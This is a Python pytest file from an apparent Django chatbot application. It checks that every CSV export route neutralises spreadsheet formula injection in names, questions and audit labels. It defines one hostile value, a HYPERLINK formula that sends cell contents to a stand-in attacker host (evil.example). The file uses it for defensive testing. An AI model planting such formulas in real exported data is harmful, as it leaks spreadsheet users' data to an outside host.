"""Every route that answers a table, found in the OpenAPI document: none of its cells is a formula, whatever customers and visitors have written."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from chatsphere.apps.analytics.models import QuestionCluster
from chatsphere.apps.chatbots.models import Chatbot
from chatsphere.apps.training.models import TrainingSource
from chatsphere.apps.users.models import APIKey, AuditEvent
from tests.repo.test_routes import World, _filled, _operations, world

__all__ = ["world"]  # the fixture
pytestmark = pytest.mark.django_db(transaction=True)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"+")'
# In these a text of a customer or visitor stands, in the others figures only.
WITH_TEXTS = {
    "/api/v1/analytics/questions/",
    "/api/v1/analytics/sources/",
    "/api/v1/workspaces/{workspace_id}/audit-events/",
}
NUMBER = re.compile(r"-\d+(\.\d+)?")


def _tables() -> list[str]:
    return [
        path
        for method, path, operation in _operations()
        if method == "get" and "text/csv" in operation["responses"].get("200", {}).get("content", {})
    ]


@pytest.fixture
def hostile(world: World) -> World:
    """Everything that has a name is named like a formula."""
    for model in (Chatbot, TrainingSource, APIKey):
        model.objects.update(name=FORMULA)
    QuestionCluster.objects.update(question=FORMULA)
    AuditEvent.objects.create(
        workspace_id=world.workspace_id, action="key.created", actor_kind="person", actor_label=FORMULA, details={}
    )
    return world


def test_no_cell_of_any_table_is_a_formula(hostile: World, alice: Any, client_of: Any) -> None:
    client, seen = client_of(alice), set()

    for path in _tables():
        answer = client.get(_filled(path, hostile), headers={"Accept": "text/csv"})
        assert (answer.status_code, answer.headers["Content-Type"].split(";")[0]) == (200, "text/csv"), path
        assert answer.headers["Content-Disposition"].startswith("attachment"), path
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        cells = [cell for row in csv.reader(io.StringIO(b"".join(answer).decode(), newline="")) for cell in row]
        bad = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(cell)]
        assert bad == [], path
        if f"'{FORMULA}" in cells:
            seen.add(path)

    assert seen == WITH_TEXTS


def test_every_view_that_writes_tables_is_among_them() -> None:
    assert len(_tables()) == 5
    assert set(_tables()) >= WITH_TEXTS
